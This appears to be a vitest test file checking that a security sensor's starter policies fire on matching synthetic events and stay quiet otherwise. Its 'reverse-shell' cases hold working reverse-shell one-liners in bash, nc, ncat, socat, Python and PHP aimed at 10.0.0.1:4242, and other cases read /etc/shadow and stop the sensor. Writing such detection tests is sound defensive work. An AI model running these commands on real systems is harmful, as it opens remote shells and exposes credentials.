/** The starter policies on events that they are and are not about. */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { SentinelEvent } from '../agent/event.ts';
import { policyCompiler } from '../agent/policy-compiler.ts';
import { clausesOf } from '../agent/policy/clauses.ts';
import { canHold } from '../agent/policy/applicable.ts';
import { parsePolicies } from '../agent/policy/parse.ts';
import { problemText } from '../agent/policy/problem.ts';
import { reduce } from '../agent/policy/reduce.ts';

const folder = join(import.meta.dirname, '..', 'policies');
const compile = policyCompiler();
const parsed = readdirSync(folder).map((name) =>
  parsePolicies(name, readFileSync(join(folder, name), 'utf8'), compile),
);
const policies = new Map(parsed.flatMap((file) => file.policies).map((each) => [each.policy.id, each]));

const BASE: SentinelEvent = {
  eventId: 2,
  type: 'process',
  action: 'exec',
  lane: 'security',
  tsNs: 1n,
  severity: 'info',
};

function exec(executable: string, argv: string[] = [executable], flags: string[] = []): SentinelEvent {
  const name = executable.slice(executable.lastIndexOf('/') + 1);
  return { ...BASE, process: { pid: 9, startNs: 1n, name, executable, argv, flags } };
}

function file(executable: string, action: string, path: string): SentinelEvent {
  return { ...exec(executable), type: 'file', action, file: { path, op: action } };
}

function connect(source: string): SentinelEvent {
  return {
    ...exec('/usr/bin/curl'),
    type: 'network',
    action: 'connect',
    network: { protocol: 'tcp', dstIp: '203.0.113.9', dstPort: 443, direction: 'outbound' },
    detections: [{ ruleId: 'i', title: 'i', level: 'high', attack: [], clauses: [], source }],
  };
}

function dlp(destination: string, confidence: number, verdict = 'match'): SentinelEvent {
  const match = { index: 'i', rule: 'r', kind: 'row', type: 'iban', count: 1, offset: 0, length: 22 };
  const common = { verdict, trigger: 'close_write', bytes: 1, tookMs: 1, ofEventId: 4 };
  const matches = verdict === 'match' ? [{ ...match, confidence }] : [];
  return {
    ...exec('/usr/bin/cp'),
    type: 'dlp',
    action: verdict,
    file: { path: '/media/a/x.csv', op: 'write' },
    dlp: { ...common, destination, matches, matchesTotal: matches.length },
  };
}

const PYTHON =
  'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")';

const CASES: Record<string, { hits: SentinelEvent[]; misses: SentinelEvent[] }> = {
  'exec-from-writable-places': {
    hits: [exec('/tmp/x'), exec('/var/tmp/a/b'), exec('/dev/shm/.hidden')],
    misses: [exec('/usr/bin/tmp'), exec('/tmpfs/x'), file('/tmp/x', 'open', '/tmp/x'), exec('/home/a/tmp/x')],
  },
  'exec-from-memory': {
    hits: [exec('memfd:payload (deleted)', ['x'], ['memfd', 'deleted'])],
    misses: [exec('/usr/bin/ls'), exec('/usr/sbin/runc', ['runc', 'init'], ['memfd'])],
  },
  'reverse-shell': {
    hits: [
      exec('/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1']),
      exec('/usr/bin/nc', ['nc', '-e', '/bin/sh', '10.0.0.1', '4242']),
      exec('/usr/bin/ncat', ['ncat', '10.0.0.1', '4242', '--exec', 'bash']),
      exec('/usr/bin/socat', ['socat', 'TCP:10.0.0.1:4242', 'EXEC:/bin/sh']),
      exec('/usr/bin/python3.11', ['python3', '-c', PYTHON]),
      exec('/usr/bin/php8.2', [
        'php',
        '-r',
        '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");',
      ]),
    ],
    misses: [
      exec('/usr/bin/bash', ['bash', '-c', 'echo hello']),
      exec('/usr/bin/nc', ['nc', '-zv', 'example.org', '443']),
      exec('/usr/bin/socat', ['socat', 'TCP-LISTEN:80,fork', 'TCP:localhost:8080']),
      exec('/usr/bin/python3.11', ['python3', '-m', 'http.server']),
      exec('/usr/bin/grep', ['grep', '-r', '/dev/tcp/', '.']),
    ],
  },
  'credential-files': {
    hits: [file('/usr/bin/cat', 'open', '/etc/shadow'), file('/tmp/x', 'open', '/etc/gshadow')],
    misses: [
      file('/usr/bin/passwd', 'open', '/etc/shadow'),
      file('/usr/bin/cat', 'open', '/etc/passwd'),
      file('/usr/bin/cat', 'chmod', '/etc/shadow'),
    ],
  },
  'listed-addresses': {
    hits: [connect('indicator:bad.csv:3')],
    misses: [connect('bundled'), exec('/usr/bin/curl')],
  },
  'sentinel-own-files': {
    hits: [
      file('/usr/bin/rm', 'unlink', '/var/lib/sentinel/wal/security/1.swal'),
      file('/usr/bin/vi', 'write', '/etc/sentinel/config.yml'),
    ],
    misses: [
      file('/usr/lib/sentinel/sentinel', 'write', '/var/lib/sentinel/timeline.db'),
      file('/usr/bin/dpkg', 'rename', '/usr/lib/sentinel/sentinel'),
      file('/usr/bin/rm', 'unlink', '/var/lib/other'),
      file('/usr/bin/cat', 'open', '/etc/sentinel/config.yml'),
    ],
  },
  'protected-data-to-media': {
    hits: [dlp('removable', 0.99)],
    misses: [
      dlp('removable', 0.5),
      dlp('network_share', 0.99),
      dlp('removable', 0.99, 'unscannable'),
      file('/usr/bin/cp', 'write', '/media/a/x.csv'),
    ],
  },
  'sensor-disarm': {
    hits: [exec('/usr/bin/systemctl', ['systemctl', 'stop', 'sentinel'])],
    misses: [
      exec('/usr/bin/systemctl', ['systemctl', 'status', 'sentinel']),
      exec('/usr/bin/systemctl', ['systemctl', 'stop', 'cups']),
    ],
  },
};

describe('starter policies', () => {
  it('have no mistakes, and each has its cases', () => {
    expect(parsed.flatMap(({ problems, warnings }) => [...problems, ...warnings]).map(problemText)).toEqual(
      [],
    );
    expect([...policies.keys()].sort()).toEqual(Object.keys(CASES).sort());
  });

  it.each(Object.entries(CASES))(
    '%s holds for what it is about and for nothing else',
    (id, { hits, misses }) => {
      const { when } = policies.get(id)!;
      const holds = (event: SentinelEvent): boolean =>
        canHold(when.root, event.type, event.action) && when.test(event) === true;
      expect(hits.map(holds)).toEqual(hits.map(() => true));
      expect(misses.map(holds)).toEqual(misses.map(() => false));
      for (const event of [...hits, ...misses]) {
        const { clauses } = clausesOf(when, compile).explain(event, true);
        expect(clauses.filter(({ result }) => result === 'not evaluated')).toEqual([]);
      }
    },
  );

  it.each(['exec-from-writable-places', 'credential-files'])('%s is one that the kernel can decide', (id) => {
    const { when, policy } = policies.get(id)!;
    expect(reduce(when.root, when.text, policy.action)).toMatchObject({ ok: true });
  });
});
